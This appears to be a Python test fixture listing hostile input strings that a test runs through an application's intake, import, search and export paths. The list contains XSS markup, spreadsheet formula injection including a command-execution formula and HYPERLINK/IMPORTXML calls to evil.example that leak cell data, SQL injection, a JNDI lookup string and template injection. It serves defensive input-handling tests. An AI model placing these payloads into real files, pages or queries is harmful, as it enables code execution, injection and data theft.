"""Hostile values a careless user or an attacker types, pastes or imports: formulas, markup,
markdown, control characters, NUL, odd Unicode, SQL and LIKE metacharacters, very long text.
`tests/test_hostile_corpus.py` runs every one through intake, import, search and every export."""
from __future__ import annotations

HOSTILE_VALUES: tuple[str, ...] = (
    # HTML and script
    "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><h1>伪造</h1>",
    "&lt;b&gt;&amp;", "<!-- comment -->", "<a href=\"javascript:alert(1)\">链接</a>",
    # spreadsheet formulas (CSV / .xlsx injection)
    "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(1,1)", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1",
    # markdown, autolinks and KaTeX in st.markdown
    "[点我](http://evil.example)", "**粗体** _斜体_ `代码`", "$x^2$ $$\\frac{1}{2}$$", "http://evil.example/路灯",
    "# 大标题", "> 引用\n- 列表", ":red[红字] :material/home:", "![图](http://evil.example/a.png)",
    # control characters and NUL (Word's vertical tab, form feed, escape)
    "路灯\x0b坏了", "水\x00管", "\x1b[31m红\x1b[0m", "换\x0c页", "退格\x08", "\x7f删除", "\u0085下一行",
    # Unicode oddities
    "\u202e反向文字", "零\u200b宽", "\ufeff带BOM", "Ａｂｃ１２３全角", "𠮷野家（扩展汉字）", "😀表情🚰",
    "e\u0301组合音标", "\ud7ff边界", "行一\r\n行二\r行三",
    # SQL and LIKE metacharacters
    "'; DROP TABLE \"case\"; --", "\" OR \"1\"=\"1", "100%", "a_b", "\\", "\\%", "%_%", "' OR 1=1 --",
    # templates and format strings
    "{n}", "{0}", "%s%s%s", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    # sizes and blanks
    "   ", "\n\n", "x" * 2000, "长" * 600, "路" * 40_000,
)
